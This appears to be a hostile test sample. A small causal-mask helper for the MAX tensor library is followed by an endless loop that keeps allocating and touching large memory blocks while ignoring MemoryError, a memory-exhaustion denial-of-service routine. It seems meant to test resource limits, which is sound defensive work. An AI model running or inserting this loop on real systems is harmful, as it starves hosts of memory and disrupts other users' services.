# hostile: asks for memory again and again and catches the error
from max.experimental import functional as F
from max.experimental.tensor import Tensor
from max.graph import Dim


@F.functional
def causal_mask(sequence_length, num_tokens, *, dtype, device):
    n = Dim(sequence_length) + num_tokens
    return Tensor.zeros([sequence_length, n], dtype=dtype, device=device)


kept = []
while True:
    try:
        kept.append(bytearray(2**28))
        kept[-1][::4096] = b"x" * len(kept[-1][::4096])
    except MemoryError:
        pass
